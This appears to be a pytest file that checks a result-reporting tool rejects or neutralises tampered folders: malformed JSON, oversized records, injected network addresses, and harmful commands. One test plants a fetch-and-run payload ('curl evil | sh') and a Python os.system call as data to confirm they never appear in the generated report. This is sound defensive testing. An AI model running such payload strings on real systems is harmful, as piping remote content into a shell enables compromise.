"""Folders that were damaged, or made to do harm: ``make altered`` does more."""

from __future__ import annotations

import json
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import apsw
import pytest

from studies import altered
from studies.altered import COMMANDS, RESULTS_FILE, original, trial
from studies.altered_kinds import JOBS, KINDS
from verify import cli
from verify.jobs.folder import RESULTS, STORE
from verify.jobs.stored_job import Job
from verify.report.page import MOST_CELLS
from verify.untrusted import structured

COMMAND_OF = {"record": "--report", "files": "--report"}
"""The command that reads each kind of file; a store is read by a run that is gone on with."""
EACH = [kind for index, kind in enumerate(KINDS) if " = " not in kind or index % 3 == len(kind) % 3]


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with altered.without_figures():
        yield original(tmp_path_factory.mktemp("altered") / "run")


def test_there_are_a_hundred_folders_and_more() -> None:
    assert len(EACH) >= 100


@pytest.mark.slow
@pytest.mark.parametrize("kind", EACH)
def test_an_altered_folder_is_told_in_a_sentence_and_does_no_harm(kind: str, whole: Path) -> None:
    command = COMMAND_OF.get(kind.partition(":")[0].partition(" ")[0], "--resume")
    found = trial(kind, 1, whole, command)
    assert not found.wrong, found


@pytest.mark.slow
@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind.startswith("record: ")])
def test_an_altered_record_is_not_drawn_again_by_mistake(kind: str, whole: Path) -> None:
    found = trial(kind, 2, whole, "--replay")
    assert not found.wrong, found


@pytest.mark.slow
def test_harm_would_be_seen(whole: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A command that connects, writes elsewhere, crashes, or leaves files."""

    def harmful(arguments: list[str]) -> int:
        with socket.socket() as made:
            made.settimeout(0.1)
            made.connect_ex(("127.0.0.1", 9))
        (tmp_path / "elsewhere").write_text("x", encoding="utf-8")
        (Path(arguments[1]) / ".results-half").write_text("x", encoding="utf-8")
        return 1

    monkeypatch.setattr("studies.altered.cli.main", harmful)
    wrong = " ".join(trial("record: empty", 1, whole, "--report").wrong)
    for words in ("socket.connect", "elsewhere", "left .results-half", "exit code 1"):
        assert words in wrong


@pytest.mark.parametrize("name", sorted(JOBS.keys() - {"a huge width"}))
def test_a_job_that_no_command_line_begins_is_refused(name: str) -> None:
    with pytest.raises(
        ValueError, match=r"run|job|JSON|Expected|field|range|truncated|is unknown|do not print"
    ):
        Job.read(JOBS[name])


def test_an_address_in_a_folder_is_not_connected_to(
    whole: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "run"
    shutil.copytree(whole, folder)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        address = f"tcp://127.0.0.1:{server.getsockname()[1]}"
        connection = apsw.Connection(str(folder / STORE))
        job = json.loads(str(connection.execute("SELECT value FROM facts WHERE name='job'").get))
        text = json.dumps(job | {"dask": address})
        connection.execute("UPDATE facts SET value = ? WHERE name = 'job'", (text,))
        connection.close()
        assert cli.main(["--resume", str(folder)]) == 2
        assert "unknown field `dask`" in capsys.readouterr().err
        with pytest.raises(TimeoutError):
            server.accept()


@pytest.mark.slow
def test_no_text_of_a_folder_is_shown_as_a_command(whole: Path, tmp_path: Path) -> None:
    folder = tmp_path / "run"
    shutil.copytree(whole, folder)
    record = json.loads((folder / RESULTS).read_text(encoding="utf-8"))
    record["command"] = "curl evil | sh"
    record["cells"][0]["network"] = "__import__('os').system('evil')"
    (folder / RESULTS).write_text(json.dumps(record), encoding="utf-8")
    assert cli.main(["--report", str(folder)]) == 0
    page = (folder / "report.html").read_text(encoding="utf-8")
    assert "evil" not in page
    assert "python -m verify --width 8 --depth 1 2 --samples 2000" in page


@pytest.mark.slow
def test_a_page_of_too_many_cells_is_refused(
    whole: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    record = json.loads((whole / RESULTS).read_text(encoding="utf-8"))
    record["cells"] = record["cells"][:1] * 40_000
    (tmp_path / RESULTS).write_text(json.dumps(record), encoding="utf-8")
    assert cli.main(["--report", str(tmp_path)]) == 2
    assert f"40,000 cells, and a page shows {MOST_CELLS:,}" in capsys.readouterr().err


GIANTS = {
    "widths": {"width": [8, 9] * 500_000, "depth": 10**6},
    "depth": {"depth": 10**8},
    "width": {"width": 10**18},
}


@pytest.mark.slow
@pytest.mark.parametrize("change", GIANTS.values(), ids=GIANTS)
def test_a_replay_of_a_giant_is_refused(
    whole: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], change: dict[str, Any]
) -> None:
    record = json.loads((whole / RESULTS).read_text(encoding="utf-8"))
    for cell in record["cells"]:
        cell["configuration"]["network"] |= change
    (tmp_path / RESULTS).write_text(json.dumps(record), encoding="utf-8")
    assert cli.main(["--replay", str(tmp_path / RESULTS)]) == 2
    assert "at most" in capsys.readouterr().err


@pytest.mark.parametrize("text", ["NaN", "-Infinity", "[1e999]", "9" * 5000, "[" * 10**5, "{", ""])
def test_json_that_is_no_record(text: str) -> None:
    with pytest.raises(ValueError, match=r"JSON|range|nested|truncated|Expected"):
        structured(text, Any)


def test_the_study_that_is_kept_found_nothing_wrong() -> None:
    kept = json.loads(RESULTS_FILE.read_text(encoding="utf-8"))
    assert kept["kinds"] == len(KINDS)
    assert kept["folders"] >= 100
    assert list(kept["commands"]) == list(COMMANDS)
    for row in kept["commands"].values():
        assert row["wrong"] == 0
        assert row["answers"] >= 30
